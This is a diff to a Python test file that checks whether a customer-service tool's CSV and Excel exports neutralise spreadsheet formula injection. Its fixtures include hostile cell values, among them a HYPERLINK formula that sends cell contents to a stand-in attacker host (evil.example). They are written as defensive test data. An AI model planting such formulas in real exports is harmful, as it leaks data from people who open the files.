@@ -15,6 +15,7 @@ import shutil
 
 import pytest
 from openpyxl import load_workbook
+from shops import msg, order, write_table
 from typer.testing import CliRunner
 
 from kefu.cli.main import app as cli
@@ -22,11 +23,10 @@ from kefu.exports import FORMULA_START, csv_safe
 from kefu.ingest.pipeline import import_paths
 from kefu.users import add_user
 from kefu.workspace import Workspace
-from shops import msg, order, write_table
 
 runner = CliRunner()
 AGENT = "s:=1+1"  # the account itself
-NAME, TEAM, VENDOR = "=HYPERLINK(\"http://x.example\",\"点我\")", "+售前组", "@外包公司"
+NAME, TEAM, VENDOR = '=HYPERLINK("http://x.example","点我")', "+售前组", "@外包公司"
 BUYER = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
 IN_HOUSE = "s:-2+3"
 SCHEME = """name = "{name}"
@@ -47,14 +47,31 @@ def ws(tmp_path_factory):
     root = tmp_path_factory.mktemp("hostile")
     data = root / "data"
     data.mkdir()
-    write_table(data, "agents", [
-        {"agent": AGENT, "name": NAME, "shop": "s", "team": TEAM, "role": "presales", "employer": VENDOR},
-        {"agent": IN_HOUSE, "name": "\t=cmd", "shop": "s", "team": TEAM, "role": "presales", "employer": "in_house"},
-    ])
-    write_table(data, "messages", [
-        msg("10:00:00", "buyer", AGENT, BUYER, text="=1+2"), msg("10:00:30", "agent", AGENT, BUYER, text="@在的"),
-        msg("11:00:00", "buyer", IN_HOUSE, "b2"), msg("11:00:10", "agent", IN_HOUSE, "b2"),
-    ])
+    write_table(
+        data,
+        "agents",
+        [
+            {"agent": AGENT, "name": NAME, "shop": "s", "team": TEAM, "role": "presales", "employer": VENDOR},
+            {
+                "agent": IN_HOUSE,
+                "name": "\t=cmd",
+                "shop": "s",
+                "team": TEAM,
+                "role": "presales",
+                "employer": "in_house",
+            },
+        ],
+    )
+    write_table(
+        data,
+        "messages",
+        [
+            msg("10:00:00", "buyer", AGENT, BUYER, text="=1+2"),
+            msg("10:00:30", "agent", AGENT, BUYER, text="@在的"),
+            msg("11:00:00", "buyer", IN_HOUSE, "b2"),
+            msg("11:00:10", "agent", IN_HOUSE, "b2"),
+        ],
+    )
     write_table(data, "orders", [order("o1", "11:05:00", "11:06:00", "88.00", buyer="b2")])
     path = root / "ws"
     w = Workspace.open(path, create=True)
@@ -64,7 +81,9 @@ def ws(tmp_path_factory):
     w.close()
     (path / "schemes").mkdir()
     (path / "schemes" / "vendor.toml").write_text(SCHEME.format(name="=外包方案", employer=VENDOR), encoding="utf-8")
-    (path / "schemes" / "in_house.toml").write_text(SCHEME.format(name="+自营方案", employer="in_house"), encoding="utf-8")
+    (path / "schemes" / "in_house.toml").write_text(
+        SCHEME.format(name="+自营方案", employer="in_house"), encoding="utf-8"
+    )
     return path
 
 
@@ -81,7 +100,9 @@ def assert_no_formula(source, allowed=lambda cell: False) -> list[str]:
     for sheet in wb.worksheets:
         for row in sheet.iter_rows():
             for cell in row:
-                assert cell.data_type != "f" or allowed(cell), f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                assert cell.data_type != "f" or allowed(cell), (
+                    f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                )
                 if cell.data_type == "s":
                     texts.append(cell.value)
     return texts
@@ -100,8 +121,17 @@ def is_sum(cell) -> bool:
 
 
 def test_csv_safe_follows_owasp():
-    assert [csv_safe(v) for v in ("=1+1", "+1", "-1", "@a", "\tx", "\rx", "小王", "", "a=b")] == \
-        ["'=1+1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "小王", "", "a=b"]
+    assert [csv_safe(v) for v in ("=1+1", "+1", "-1", "@a", "\tx", "\rx", "小王", "", "a=b")] == [
+        "'=1+1",
+        "'+1",
+        "'-1",
+        "'@a",
+        "'\tx",
+        "'\rx",
+        "小王",
+        "",
+        "a=b",
+    ]
     assert [csv_safe(v) for v in (-3.5, 0, None)] == [-3.5, 0, None]  # numbers stay numbers
 
 
@@ -143,14 +173,19 @@ def test_web_exports(ws, tmp_path):
         client = TestClient(application, base_url="https://testserver", follow_redirects=False)
         client.get("/login")
         headers = {"X-CSRF-Token": client.cookies.get("kefu_csrf")}
-        assert client.post("/api/session", json={"name": "boss", "password": "s3cret-pass"}, headers=headers).status_code == 200
+        assert (
+            client.post("/api/session", json={"name": "boss", "password": "s3cret-pass"}, headers=headers).status_code
+            == 200
+        )
         lost = client.get("/losses.csv", params={"shop": "s", "date": "2026-11-11"})
         assert lost.status_code == 200
         rows = assert_csv_safe(lost.content.decode("utf-8"))
         assert rows[1][2:4] == [AGENT, "'" + BUYER]  # the lost buyer, marked as text
-        for url, params, allowed in (("/reports/daily.xlsx", {"shop": "s", "date": "2026-11-11"}, lambda c: False),
-                                     ("/pay/payroll.xlsx", {"month": "2026-11"}, is_sum),
-                                     ("/pay/settlement.xlsx", {"month": "2026-11"}, is_sum)):
+        for url, params, allowed in (
+            ("/reports/daily.xlsx", {"shop": "s", "date": "2026-11-11"}, lambda c: False),
+            ("/pay/payroll.xlsx", {"month": "2026-11"}, is_sum),
+            ("/pay/settlement.xlsx", {"month": "2026-11"}, is_sum),
+        ):
             r = client.get(url, params=params)
             assert r.status_code == 200, (url, r.text)
             assert NAME in assert_no_formula(io.BytesIO(r.content), allowed), url
